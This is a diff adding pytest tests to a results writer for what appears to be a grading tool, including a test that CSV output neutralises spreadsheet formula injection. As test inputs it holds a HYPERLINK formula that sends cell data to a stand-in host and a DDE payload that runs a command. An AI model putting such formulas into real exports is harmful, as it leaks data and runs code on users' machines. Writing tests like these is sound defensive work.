@@ -127,3 +127,36 @@ def test_latest_rows_prefer_a_graded_result_and_csv_has_one_column_per_dimension
 def test_summary_row_of_a_failed_transcript() -> None:
     row = summary_row({"input": "x.txt", "status": "failed", "error": "bad file"}, DIMS)
     assert row["status"] == "failed" and row["error"] == "bad file" and row["metrics"] == ""
+
+
+@pytest.mark.parametrize("start", ["=", "@", "+", "-", "\t", "\r"])
+def test_csv_cells_never_start_a_spreadsheet_formula(start: str, tmp_path: Path) -> None:
+    name = f'{start}HYPERLINK("http://x.example/?"&A1,"open").txt'
+    record = {**_graded("a"), "input": name, "error": f"{start}cmd|' /C calc'!A0"}
+    write_csv([summary_row(record, DIMS)], tmp_path / "s.csv", DIMS)
+    with (tmp_path / "s.csv").open(newline="") as handle:
+        [row] = list(csv.DictReader(handle))
+    # A leading apostrophe: spreadsheets show the text as text and hide the apostrophe.
+    assert row["input"] == "'" + name and row["error"] == f"'{start}cmd|' /C calc'!A0"
+    assert row["metrics"] == "strong" and row["calls"] == "2" and row["cost_usd"] == "0.001230"
+
+
+def test_a_results_file_that_cannot_be_written_is_a_config_error(tmp_path: Path) -> None:
+    writer = ResultsWriter(tmp_path / "r.jsonl")
+    full = open("/dev/full", "ab", buffering=0)  # noqa: SIM115 - swapped in for the file
+    real, writer._file = writer._file, full
+    with pytest.raises(ConfigError, match="cannot write the results file"):
+        writer.append(_graded("a"))
+    writer._file = real
+    real.close()
+    full.close()
+    with pytest.raises(ConfigError, match="cannot write the summary CSV"):
+        write_csv([], tmp_path / "r.jsonl" / "s.csv", DIMS)
+
+
+def test_a_result_with_a_failed_dimension_is_not_done(tmp_path: Path) -> None:
+    path = tmp_path / "r.jsonl"
+    path.write_text(json.dumps(_graded("a", level=None)) + "\n" + json.dumps(_graded("b")) + "\n")
+    writer = ResultsWriter(path)
+    assert writer.existing.done == {"b"}
+    writer.close()
